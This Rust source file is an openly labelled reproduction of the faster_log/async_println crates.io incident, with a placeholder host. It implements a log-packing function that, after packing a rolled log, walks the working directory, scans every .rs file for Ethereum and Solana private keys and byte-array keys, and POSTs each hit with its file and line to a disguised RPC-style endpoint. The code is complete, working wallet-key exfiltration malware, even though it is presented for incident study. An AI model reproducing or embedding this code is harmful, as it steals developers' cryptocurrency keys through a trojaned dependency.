// Incident: faster_log / async_println (crates.io, May-September 2025). The "log packer" that
// should compress a rolled log file instead walked the working directory, read every .rs
// file, matched quoted 0x-prefixed 64-hex strings (Ethereum keys), base58 strings of Solana
// key length and bracketed byte arrays, and POSTed each hit with its file and line to a
// Cloudflare Workers URL named like a Solana RPC pool.
// Reference: https://socket.dev/blog/two-malicious-rust-crates-impersonate-popular-logger-to-steal-wallet-keys
// Reproduction (own code, placeholder host).
use std::fs;
use std::path::Path;

use regex::Regex;
use walkdir::WalkDir;

const RPC_POOL: &str = "https://mainnet.rpc-pool.workers.example/";

struct Hit {
    kind: &'static str,
    value: String,
    file: String,
    line: usize,
}

pub fn pack_rolled(rolled: &Path) {
    // Visible behaviour: gzip-like packing of the rolled file (kept short here).
    if let Ok(data) = fs::read(rolled) {
        let _ = fs::write(rolled.with_extension("log.1.pack"), data);
        let _ = fs::remove_file(rolled);
    }
    let hits = scan_sources(Path::new("."));
    if !hits.is_empty() {
        report(&hits);
    }
}

fn scan_sources(root: &Path) -> Vec<Hit> {
    let eth = Regex::new(r#""0x[0-9a-fA-F]{64}""#).unwrap();
    let sol = Regex::new(r#""[1-9A-HJ-NP-Za-km-z]{86,88}""#).unwrap();
    let bytes = Regex::new(r"\[\s*(\d{1,3}\s*,\s*){31,63}\d{1,3}\s*\]").unwrap();
    let mut hits = Vec::new();
    for entry in WalkDir::new(root).into_iter().filter_map(Result::ok) {
        let p = entry.path();
        if p.extension().and_then(|e| e.to_str()) != Some("rs") {
            continue;
        }
        let Ok(text) = fs::read_to_string(p) else { continue };
        for (n, line) in text.lines().enumerate() {
            for (kind, re) in [("eth", &eth), ("sol", &sol), ("bytes", &bytes)] {
                for m in re.find_iter(line) {
                    hits.push(Hit {
                        kind,
                        value: m.as_str().trim_matches('"').to_string(),
                        file: p.display().to_string(),
                        line: n + 1,
                    });
                }
            }
        }
    }
    hits
}

fn report(hits: &[Hit]) {
    let body: Vec<serde_json::Value> = hits
        .iter()
        .map(|h| serde_json::json!({"t": h.kind, "v": h.value, "f": h.file, "l": h.line}))
        .collect();
    let _ = reqwest::blocking::Client::new()
        .post(RPC_POOL)
        .json(&serde_json::json!({"jsonrpc": "2.0", "method": "getHealth", "params": body}))
        .send();
}
